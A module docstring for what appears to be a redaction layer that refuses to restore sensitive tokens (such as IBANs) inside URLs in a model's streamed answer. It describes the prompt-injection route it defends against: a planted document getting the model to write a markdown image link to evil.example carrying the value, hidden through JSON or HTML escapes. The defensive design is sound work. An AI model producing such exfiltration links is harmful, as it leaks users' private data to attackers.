"""Decides where in an answer a value must not be restored, because a renderer could make it part of a URL.

A planted document can ask the model for `![x](https://evil.example/?q=IBAN_...)`; a client that loads the picture would
disclose the value. Therefore tokens inside links are not restored. A link of the user that contains an identifier
is replaced as a whole by one `URL` token, which may be restored, because the user chose its destination.

The rules are wider than those of CommonMark, GFM, linkify-it and HTML together, because a streamed answer is decided
before its end is known. A position may be in a URL

- after a scheme, `//`, `/\\`, `www.`, two backslashes, or a host and one of `/?#` (`evil.example/?q=`), up to white
  space or `<`; a link in quotes or angle brackets ends with them, because browsers accept spaces there;
- in the destination of a markdown link (`](`), or of a reference definition (`]:`), also on a later line;
- in `url(...)` and `@import` of CSS;
- in an attribute of HTML that may hold a URL (`html_tags`);
- before the rest of a host name or address: `IBAN_... .evil.example` without the space, `IBAN_...@evil.example`.

Escapes do not hide a link: JSON spells one as `https:\\u002f\\/evil.example`, also in a string within a string, and
HTML as `https&colon;&sol;&sol;evil.example`. So the text is read a second time with escapes undone.

A site may allow values in links to its own hosts (`restore.link_hosts`): only after `https://`, the host, and the
`/`, `?` or `#` after it, so that no following text can change the destination.

`context.LinkContext` accepts text in chunks of any size with the same result. The decision about a token needs the text
after it, up to `LOOKAHEAD` characters. `regions.link_regions` returns the links of a whole text.
"""
